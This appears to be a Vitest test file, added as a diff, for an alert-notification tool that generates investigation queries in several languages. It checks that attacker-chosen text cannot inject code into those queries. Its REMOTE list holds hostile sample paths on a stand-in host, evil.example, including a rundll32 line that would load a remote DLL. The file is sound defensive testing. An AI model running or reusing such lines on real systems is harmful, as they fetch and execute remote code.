@@ -1,0 +1,148 @@
+import { describe, expect, it } from 'vitest';
+import { problemOf } from '../../functions/alert/notification/literals.ts';
+import { type Pivot, pivots } from '../../functions/alert/notification/pivots.ts';
+import { random, scale, seed } from '../scale.ts';
+import { HOSTILE, randomText, UNWRITABLE } from './hostile-texts.ts';
+import { pivotAlert } from './pivot-fixture.ts';
+import { readEsql } from './query-readers/esql.ts';
+import { type Kql, kqlStrings, readKql } from './query-readers/kql.ts';
+import { readPowerShell } from './query-readers/powershell.ts';
+
+/** An alert in which the attacker chose everything that can be chosen. */
+function pivotsAbout(text: string): readonly Pivot[] {
+  return pivots(
+    pivotAlert({
+      facts: {
+        hostId: text,
+        hostName: text,
+        agentId: text,
+        service: text,
+        program: text,
+        requester: { kind: 'named', name: text, executable: text, pid: text, entityId: text },
+        writer: { name: text, executable: text, pid: text, entityId: text },
+      },
+      registry: { path: text, hive: text, key: text, value: text, data: [text] },
+      evidence: { key: text, versionId: text },
+    }),
+    'en',
+    { kibanaUrl: 'https://kibana.example/s/soc' },
+  );
+}
+
+/** Everything in a query that the attacker must not have written. */
+function codeOf({ language, text }: Pivot): string {
+  switch (language) {
+    case 'KQL':
+      return JSON.stringify(shapeOf(readKql(text!)));
+    case 'ES|QL':
+      return readEsql(text!).skeleton;
+    case 'PowerShell':
+      // A service's key is cut at its fourth element, so there may be a rest or not.
+      return readPowerShell(text!).skeleton.replace(
+        "$k.OpenSubKey('?') }; if (-not $p)",
+        '$k }; if (-not $p)',
+      );
+    case 'Osquery':
+      return text!.replace(/CAST\(x'[0-9a-f]*' AS TEXT\)|'(?:[^']|'')*'/g, '?');
+    case 'EQL':
+      return text!
+        .replace(/"(?:[^"\\]|\\u\{[0-9a-f]+\}|\\[\\"])*"/g, '?')
+        .replaceAll('command_line == ', 'command_line : ')
+        .replaceAll('executable == ', 'executable : ');
+    case 'AWS CLI':
+      return text!.replace(/\$?'[^']*'/g, '?');
+  }
+}
+
+function shapeOf(query: Kql): unknown {
+  if (query.kind === 'not') return ['not', shapeOf(query.part)];
+  if (query.kind === 'and' || query.kind === 'or') return [query.kind, ...query.parts.map(shapeOf)];
+  return [query.kind, query.field, query.kind === 'is' && !query.quoted ? query.value : '?'];
+}
+
+/** The strings of a query, where the language has a reader here. */
+function stringsOf({ language, text }: Pivot): readonly string[] | null {
+  if (language === 'KQL') return kqlStrings(readKql(text!));
+  if (language === 'ES|QL') return readEsql(text!).strings;
+  return language === 'PowerShell' ? readPowerShell(text!).strings : null;
+}
+
+const named = ({ name, language, index }: Pivot) => `${name} ${language} ${index}`;
+const PLAIN = 'plain text';
+const EXPECTED = new Map(pivotsAbout(PLAIN).map(pivot => [named(pivot), pivot]));
+const shared = new Set([...EXPECTED.values()].flatMap(pivot => (pivot.text ? (stringsOf(pivot) ?? []) : [])));
+
+function check(text: string): void {
+  for (const pivot of pivotsAbout(text)) {
+    const where = `${named(pivot)} about ${JSON.stringify(text)}`;
+    if (pivot.text === null) {
+      expect([where, pivot.leftOut]).toEqual([where, expect.any(String)]);
+      expect(pivot.leftOut).toMatch(/^[\x20-\x7e]+$/);
+      continue;
+    }
+    expect([where, pivot.text]).toEqual([where, expect.stringMatching(/^[\x20-\x7e\n]+$/)]);
+    const expected = [...EXPECTED.values()].filter(
+      other => named(other) === named(pivot) && other.text !== null,
+    );
+    const codes = pivotsAbout(PLAIN)
+      .filter(other => named(other) === named(pivot) && other.text !== null)
+      .map(codeOf);
+    expect(expected.length).toBeGreaterThan(0);
+    expect([where, codes]).toEqual([where, expect.arrayContaining([codeOf(pivot)])]);
+    for (const string of stringsOf(pivot) ?? []) {
+      const isOurs = shared.has(string);
+      const isTheirs = string !== '' ? text.includes(string) || string.includes(text) : true;
+      expect([where, string, isOurs || isTheirs]).toEqual([where, string, true]);
+    }
+  }
+}
+
+describe('whatever the attacker writes', () => {
+  it.each(HOSTILE.filter(text => text.trim() !== ''))('stays inside the literals: %j', check);
+  it.each(UNWRITABLE)('leaves the queries out: %j', text => {
+    for (const { text: query, index } of pivotsAbout(text)) if (index !== null) expect(query).toBeNull();
+    check(text);
+  });
+  it('stays inside the literals, for any text', () => {
+    const next = random(seed());
+    for (let left = scale(20_000); left > 0; left--) {
+      const text = randomText(next);
+      if (text.trim() !== '' && problemOf(text) === null) check(text);
+    }
+  });
+});
+
+describe('a placeholder', () => {
+  it('is left in no query', () => {
+    for (const { text, name } of pivots(pivotAlert(), 'en')) {
+      expect([name, text]).toEqual([
+        name,
+        expect.not.stringMatching(/\{\{|\{[a-z]+\}|undefined|\[object|<[a-z]+>|…/),
+      ]);
+    }
+  });
+});
+
+const REMOTE = [
+  '\\\\evil.example\\share\\a.exe',
+  '//evil.example/share/a.exe',
+  '\\\\?\\UNC\\evil.example\\share\\a.exe',
+  '\\\\evil.example@SSL\\DavWWWRoot\\a.exe',
+  '\\\\.\\GLOBALROOT\\Device\\Mup\\evil\\a.exe',
+  'rundll32.exe \\\\evil.example\\share\\a.dll,Run',
+];
+
+describe('a path on another machine', () => {
+  it.each(REMOTE)('is opened by no command: %s', line => {
+    const all = pivots(
+      pivotAlert({ registry: { data: [line] }, facts: { program: null, isRemote: true } }),
+      'en',
+    );
+    expect(all.find(({ name }) => name === 'hash')).toMatchObject({ text: null });
+    for (const { text } of all) {
+      expect(text ?? '').not.toMatch(
+        /Get-FileHash|Get-AuthenticodeSignature|Test-Path|FROM (hash|authenticode)\b/,
+      );
+    }
+  });
+});
